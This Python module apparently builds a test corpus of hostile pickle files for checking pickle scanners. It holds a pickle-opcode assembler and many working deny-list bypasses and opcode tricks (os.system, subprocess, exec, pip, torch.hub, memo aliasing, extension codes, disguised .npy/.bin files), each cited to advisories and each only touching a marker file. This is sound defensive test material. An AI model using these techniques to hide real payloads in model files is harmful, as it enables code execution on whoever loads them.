"""The pickle assembler (:class:`G`, :class:`Call`, :class:`DT`, :func:`enc`, :func:`invoke`,
:func:`pickle_of`) and the corpus's hostile pickles: callables deny-lists missed, calling forms and
opcode tricks."""

from __future__ import annotations

import io
import os
import pickle
import struct
from dataclasses import dataclass
from pathlib import Path

import numpy as np

from advkit.testing.corpus._writer import _Writer

# --- a tiny pickle assembler ------------------------------------------------------------------


@dataclass(frozen=True)
class G:
    """A global, written with GLOBAL or STACK_GLOBAL."""

    module: str
    name: str


@dataclass(frozen=True)
class Call:
    """``func(*args)`` by REDUCE."""

    func: object
    args: tuple


@dataclass(frozen=True)
class DT:
    """``numpy.dtype(code, False, True)`` with a BUILD of ``state``."""

    code: str
    state: tuple


def _str(s: str) -> bytes:
    b = s.encode()
    return (b"\x8c" + bytes([len(b)]) if len(b) < 256 else b"X" + struct.pack("<I", len(b))) + b


def _global(g: G, stack: bool) -> bytes:
    if stack:
        return _str(g.module) + _str(g.name) + b"\x93"
    return f"c{g.module}\n{g.name}\n".encode()


def enc(v, stack: bool = True) -> bytes:
    """Opcodes that push the value ``v``."""
    if v is None:
        return b"N"
    if v is True or v is False:
        return b"\x88" if v else b"\x89"
    if isinstance(v, int):
        if -(1 << 31) <= v < 1 << 31:
            return b"J" + struct.pack("<i", v)
        raw = v.to_bytes((v.bit_length() + 8) // 8, "little", signed=True)
        return b"\x8a" + bytes([len(raw)]) + raw
    if isinstance(v, str):
        return _str(v)
    if isinstance(v, bytes):
        return b"B" + struct.pack("<I", len(v)) + v
    if isinstance(v, tuple):
        return b"(" + b"".join(enc(x, stack) for x in v) + b"t"
    if isinstance(v, list):
        return b"](" + b"".join(enc(x, stack) for x in v) + b"e"
    if isinstance(v, dict):
        return b"}(" + b"".join(enc(k, stack) + enc(x, stack) for k, x in v.items()) + b"u"
    if isinstance(v, G):
        return _global(v, stack)
    if isinstance(v, Call):
        return enc(v.func, stack) + enc(v.args, stack) + b"R"
    if isinstance(v, DT):
        return enc(Call(G("numpy", "dtype"), (v.code, False, True))) + enc(v.state) + b"b"
    raise TypeError(v)


def invoke(func: G, args: tuple, form: str) -> bytes:
    """Opcodes that call (or create) ``func`` with ``args`` in one of the ways pickle can."""
    a = b"".join(enc(x) for x in args)
    if form == "reduce-global":
        return _global(func, False) + enc(args) + b"R"
    if form == "reduce-stack":
        return _global(func, True) + enc(args) + b"R"
    if form == "reduce-build":
        return _global(func, True) + enc(args) + b"R" + enc({"x": 1}) + b"b"
    if form == "inst":
        return b"(" + a + f"i{func.module}\n{func.name}\n".encode()
    if form == "obj":
        return b"(" + _global(func, True) + a + b"o"
    if form == "newobj":
        return _global(func, True) + enc(args) + b"\x81"
    if form == "newobj-ex":
        return _global(func, True) + enc(args) + enc({}) + b"\x92"
    raise ValueError(form)


FORMS = ("reduce-global", "reduce-stack", "reduce-build", "inst", "obj", "newobj", "newobj-ex")


def pickle_of(body: bytes, protocol: int = 4) -> bytes:
    """``body`` as a whole pickle: PROTO, the opcodes, STOP."""
    return b"\x80" + bytes([protocol]) + body + b"."


def npy_with_pickle(inner: bytes) -> bytes:
    """An .npy file of an object array: numpy.load(allow_pickle=True) unpickles ``inner``."""
    buf = io.BytesIO()
    np.lib.format.write_array_header_1_0(buf, {"descr": "|O", "fortran_order": False,
                                               "shape": (1,)})
    return buf.getvalue() + inner


class _Reduce:
    """Pickles (with any pickler) as the call ``func(*args)``; never called here."""

    def __init__(self, func, args):
        self.func, self.args = func, args

    def __reduce__(self):
        return (self.func, self.args)


# --- dangerous callables ------------------------------------------------------------------------


def hostile_calls(marker) -> dict[str, tuple[G, tuple]]:
    """Callables a deny-list scanner missed, each with arguments that would only create
    ``marker``: name -> (global, args)."""
    m = str(marker)
    handler = Call(G("logging", "FileHandler"), (m,))  # creates the marker when it runs
    inner = pickle_of(enc(handler))
    bio = lambda data: Call(G("_io", "BytesIO"), (data,))  # noqa: E731
    env = "torch.utils.collect_env"
    return {
        "uuid": (G("uuid", "_get_command_stdout"), ("touch", m)),
        "osx_support": (G("_osx_support", "_read_output"), (f"touch {m}",)),
        "collect_env.run": (G(env, "run"), (f"touch {m}",)),
        "collect_env.read_all": (G(env, "run_and_read_all"), (G(env, "run"), f"touch {m}")),
        "loky": (G("joblib.externals.loky.backend.fork_exec", "fork_exec"), (["touch", m], [])),
        "test.support": (G("test.support.os_helper", "create_empty_file"), (m,)),
        "FileHandler": (G("logging", "FileHandler"), (m,)),
        "dictConfig": (G("logging.config", "dictConfig"), ({"version": 1, "handlers": {"h": {
            "class": "logging.FileHandler", "filename": m}}},)),
        "gzip.open": (G("gzip", "open"), (m, "wb")),
        "wave.open": (G("wave", "open"), (m, "wb")),
        "open_memmap": (G("numpy.lib.format", "open_memmap"), (m, "w+", "f8", (2,))),
        "memmap": (G("numpy._core.memmap", "memmap"), (m, "float64", "w+", 0, (2,))),
        "joblib.dump": (G("joblib", "dump"), (1, m)),
        "sklearn joblib.dump": (G("sklearn.utils._joblib", "dump"), (1, m)),
        "read_array": (G("numpy.lib.format", "read_array"), (bio(npy_with_pickle(inner)), True)),
        "npyio.load": (G("numpy.lib._npyio_impl", "load"), (bio(npy_with_pickle(inner)), None,
                                                           True)),
        "joblib._unpickle": (G("joblib.numpy_pickle", "_unpickle"), (bio(inner), True)),
        "pickle_compat": (G("pandas.compat.pickle_compat", "loads"), (inner,)),
        "model_zoo": (G("torch.utils.model_zoo", "load_url"), (f"file://{m}", m)),
        "Parallel": (G("sklearn.utils.parallel", "Parallel"), (1,)),
        "fetch_openml": (G("sklearn.datasets", "fetch_openml"), ("x", 1, m)),
    }


def _deny_list_bypasses(marker) -> dict[str, tuple[bytes, str]]:
    """Pickle bodies (opcodes before STOP) calling what common deny-lists missed, each only
    creating ``marker``: name -> (body, source)."""
    m = str(marker)
    touch, src = f"touch {m}", f"open({m!r}, 'w').close()"
    inner = pickle_of(enc(Call(G("logging", "FileHandler"), (m,))))
    imp = Call(G("importlib", "import_module"), ("os",))
    os_mod = Call(G("builtins", "__import__"), ("os",))
    npy = Call(G("_io", "BytesIO"), (npy_with_pickle(inner),))
    pg = "GHSA-655q-fx9r-782v (picklescan: unsafe globals missed)"
    calls = {
        "os.system": (Call(G("os", "system"), (touch,)), "the classic payload"),
        "posix.system": (Call(G("posix", "system"), (touch,)), "os.system as pickle writes it"),
        "subprocess.Popen": (Call(G("subprocess", "Popen"), (["touch", m],)), ""),
        "subprocess.check_output": (Call(G("subprocess", "check_output"), (["touch", m],)), ""),
        "builtins.exec": (Call(G("builtins", "exec"), (src,)), ""),
        "builtins.eval": (Call(G("builtins", "eval"), (src,)), ""),
        "builtins.open": (Call(G("builtins", "open"), (m, "w")), ""),
        "runpy._run_code": (Call(G("runpy", "_run_code"), (src, {})), pg),
        "pydoc.locate": (Call(Call(G("pydoc", "locate"), ("os.system",)), (touch,)), pg),
        "importlib.import_module": (Call(Call(G("builtins", "getattr"), (imp, "system")),
                                         (touch,)), pg),
        "operator.attrgetter": (Call(Call(Call(G("operator", "attrgetter"), ("system",)),
                                          (imp,)), (touch,)),
                                "GHSA-955r-x9j8-7rhh (picklescan: _operator)"),
        "_operator.methodcaller": (Call(Call(G("_operator", "methodcaller"), ("system", touch)),
                                        (imp,)), "GHSA-46h3-79wf-xr6c (picklescan: _operator)"),
        "functools.partial": (Call(Call(G("functools", "partial"), (G("os", "system"), touch)),
                                   ()), pg),
        "functools.partial of an unknown": (
            Call(Call(G("functools", "partial"), (G("mypkg.util", "helper"), touch)), ()), pg),
        "code.InteractiveInterpreter": (Call(G("code", "InteractiveInterpreter.runsource"), (
            Call(G("code", "InteractiveInterpreter"), ()), src)), pg),
        "pip._internal.main": (Call(G("pip._internal", "main"), (["download", "-d", m,
                                                                 "--no-index", "x"],)),
                               "CVE-2025-1716 (picklescan: pip.main)"),
        "pip ensure_dir": (Call(G("pip._internal.utils.misc", "ensure_dir"), (m,)),
                           "CVE-2025-1716 (picklescan: pip.main)"),
        "ensurepip._run_pip": (Call(G("ensurepip", "_run_pip"), (["download", "-d", m],)),
                               "GHSA-xp4f-hrf8-rxw7 (picklescan: ensurepip._run_pip)"),
        "cProfile.run": (Call(G("cProfile", "run"), (src,)), pg),
        "profile.run": (Call(G("profile", "run"), (src,)), pg),
        "pty.spawn": (Call(G("pty", "spawn"), (["touch", m],)), pg),
        "timeit.timeit": (Call(G("timeit", "timeit"), (src, "pass", None, 1)),
                          "GHSA-v7x6-rv5q-mhwc (picklescan: timeit.timeit)"),
        "idlelib.calltip.get_entity": (Call(G("idlelib.calltip", "get_entity"), (
            f"__import__('os').system({touch!r})",)), pg),
        "lib2to3 Grammar.dump": (Call(G("lib2to3.pgen2.grammar", "Grammar.dump"), (
            Call(G("lib2to3.pgen2.grammar", "Grammar"), ()), m)), pg),
        "ctypes.CDLL": (Call(Call(G("builtins", "getattr"), (Call(G("ctypes", "CDLL"), (None,)),
                                                            "system")), (touch.encode(),)), pg),
        "webbrowser.open": (Call(G("webbrowser", "open"), (f"file://{m}",)), pg),
        "shutil.copyfile": (Call(G("shutil", "copyfile"), ("/dev/null", m)), pg),
        "asyncio.subprocess": (Call(G("asyncio", "run"), (Call(G(
            "asyncio.subprocess", "create_subprocess_exec"), ("touch", m)),)), pg),
        "torch.hub.load": (Call(G("torch.hub", "load"), (m, "model"), ), pg),
        "torch.hub.download_url_to_file": (Call(G("torch.hub", "download_url_to_file"), (
            f"file://{m}", m)), pg),
        "torch.load nested": (Call(G("torch", "load"), (Call(G("_io", "BytesIO"), (inner,)),)),
                              "a pickle that loads another pickle"),
        "numpy.load allow_pickle": (Call(G("numpy", "load"), (npy, None, True)), pg),
        "pickle.loads nested": (Call(G("pickle", "loads"), (inner,)), ""),
        "_pickle.loads nested": (Call(G("_pickle", "loads"), (inner,)), ""),
        "_pickle.Unpickler chain": (Call(G("_pickle", "Unpickler.load"), (
            Call(G("_pickle", "Unpickler"), (Call(G("_io", "BytesIO"), (inner,)),)),)), ""),
        "copyreg._reconstructor with a dangerous base": (
            Call(G("copyreg", "_reconstructor"), (G("subprocess", "Popen"),
                                                  G("subprocess", "Popen"), ["touch", m])),
            "copyreg._reconstructor runs base.__init__"),
        "getattr chain on __import__": (Call(Call(G("builtins", "getattr"), (os_mod, "system")),
                                             (touch,)), "__reduce_ex__-style getattr chain"),
        "getattr chain on a module attribute": (
            Call(Call(G("builtins", "getattr"), (G("os", "path"), "os.system")), (touch,)), ""),
        "__builtin__ (Python 2 name)": (Call(G("__builtin__", "eval"), (src,)),
                                        "Python 2 names the unpickler maps"),
        "nt.system": (Call(G("nt", "system"), (touch,)), "CVE-2025-10155 (posix/nt names)"),
    }
    return {name: (enc(value) + b"0" + enc(None), why) for name, (value, why) in calls.items()}


def _opcode_tricks(marker) -> dict[str, tuple[bytes, str]]:
    """Whole pickles that hide what they call behind opcodes: name -> (bytes, source)."""
    m = str(marker)
    touch = f"touch {m}"
    sysg = G("os", "system")
    memo = "picklescan issue #14, modelscan PR #54 (memo opcodes)"
    sour = "'Sour Pickles' (Marco Slaviero, 2011)"
    out: dict[str, tuple[bytes, str]] = {}
    for p in range(6):
        out[f"protocol {p}"] = (pickle.dumps(_Reduce(os.system, (touch,)), protocol=p),
                                "CVE-2025-10155 (protocol 0/1 without magic bytes)" if p < 2
                                else "")
    # the global memoized under one index, fetched back with BINGET
    out["memo BINPUT/BINGET"] = (pickle_of(
        enc(None) + b"0" + _global(sysg, False) + b"q\x07" + b"0" + b"h\x07" + enc((touch,))
        + b"R" + b"0" + enc(None)), memo)
    # MEMOIZE of the strings, STACK_GLOBAL of the memo entries
    out["memo MEMOIZE + STACK_GLOBAL"] = (pickle_of(
        _str("os") + b"\x94" + _str("system") + b"\x94" + b"0" + b"0" + b"h\x00h\x01\x93"
        + enc((touch,)) + b"R"), memo)
    # the memo index of a benign value overwritten with the payload's global
    out["memo PUT aliasing"] = (b"(lp0\n" + b"0" + f"c{sysg.module}\n{sysg.name}\np0\n".encode()
                                + b"0g0\n" + b"(" + enc(touch, False) + b"tR.", memo)
    # STACK_GLOBAL operands computed while loading (rot13 of "os" and "system")
    rot = lambda s: Call(G("codecs", "decode"), (s, "rot13"))  # noqa: E731
    out["STACK_GLOBAL computed strings"] = (pickle_of(
        enc(rot("bf")) + enc(rot("flfgrz")) + b"\x93" + enc((touch,)) + b"R"),
        "GHSA-9gvj-pp9x-gcfr (picklescan: parsing logic flaw)")
    out["STACK_GLOBAL from a dict lookup"] = (pickle_of(
        enc(Call(G("operator", "getitem"), ({"m": "os"}, "m"))) + _str("system") + b"\x93"
        + enc((touch,)) + b"R"), "")
    # copyreg's extension registry: a code registered, then looked up with EXT1 / EXT2
    for n, op, code in ((1, b"\x82", 0xF0), (2, b"\x83", 0x1F0)):
        reg = enc(Call(G("copyreg", "add_extension"), ("posix", "system", code))) + b"0"
        arg = bytes([code]) if op == b"\x82" else struct.pack("<H", code)
        out[f"EXT{n} extension code"] = (pickle_of(
            reg + op + arg + enc((touch,)) + b"R"), sour)
    out["EXT4 extension code only"] = (pickle_of(b"\x84" + struct.pack("<I", 0x7FFF0000)
                                                 + enc((touch,)) + b"R"), sour)
    # BUILD puts __setstate__ into an instance dict, a second BUILD calls it
    ns = G("argparse", "Namespace")
    out["BUILD installs __setstate__"] = (pickle_of(
        enc(ns) + b")\x81" + enc({"__setstate__": sysg}) + b"b" + enc(touch) + b"b"), sour)
    out["BUILD slot state installs __setstate__"] = (pickle_of(
        enc(ns) + b")\x81" + enc((None, {"__setstate__": sysg})) + b"b" + enc(touch) + b"b"),
        sour)
    # a benign pickle, then a payload pickle: a loader reading two objects runs the second
    benign = pickle.dumps({"w": [1.0, 2.0]}, protocol=4)
    payload = pickle.dumps(_Reduce(os.system, (touch,)), protocol=4)
    out["two pickles concatenated"] = (benign + payload, "modelscan issue #263")
    out["trailing garbage after STOP"] = (benign + b"\x00garbage" + payload, "")
    out["payload after a frame's STOP"] = (pickle.dumps({"w": 1}, protocol=5) + payload[2:], "")
    # a nested pickle inside bytes, loaded by a reduce on a harmless-looking name
    out["bytes holding a pickle, loaded by pickle.loads"] = (pickle_of(
        enc(Call(G("pickle", "loads"), (payload,)))), "")
    # an unknown function that loading calls, in each calling form
    return out


# --- the pickle files of the corpus -------------------------------------------------------------


def _malicious_pickles(w: _Writer, marker: Path) -> None:
    m = str(marker)
    for name, (body, source) in _deny_list_bypasses(marker).items():
        w.write(pickle_of(body), name, "dangerous callable", "pickle", ".pkl", source)
    for name, (func, args) in hostile_calls(marker).items():
        w.write(pickle_of(invoke(func, args, "reduce-stack") + b"0" + enc(None)), name,
                "dangerous callable", "pickle", ".pkl", "GHSA-655q-fx9r-782v")
    for form in FORMS:
        w.write(pickle_of(invoke(G("os", "system"), (f"touch {m}",), form) + b"0" + enc(None)),
                f"os.system by {form}", "calling form", "pickle", ".pkl")
        w.write(pickle_of(invoke(G("mypkg.util", "helper"), (m,), form) + b"0" + enc(None)),
                f"unknown function by {form}", "calling form (unknown callable)", "pickle", ".pkl")
    for name, (data, source) in _opcode_tricks(marker).items():
        w.write(data, name, "opcode trick", "pickle", ".pkl", source)
    # CVE-2025-10155: a protocol 0 pickle under a name no scanner treats as a pickle
    w.write(pickle.dumps(_Reduce(os.system, (f"touch {m}",)), protocol=0), "protocol 0 as .bin",
            "format by name", "pickle", ".bin", "CVE-2025-10155")
    w.write(pickle.dumps(_Reduce(os.system, (f"touch {m}",)), protocol=4), "pickle as .npy",
            "format by name", "pickle", ".npy", "CVE-2025-10155")
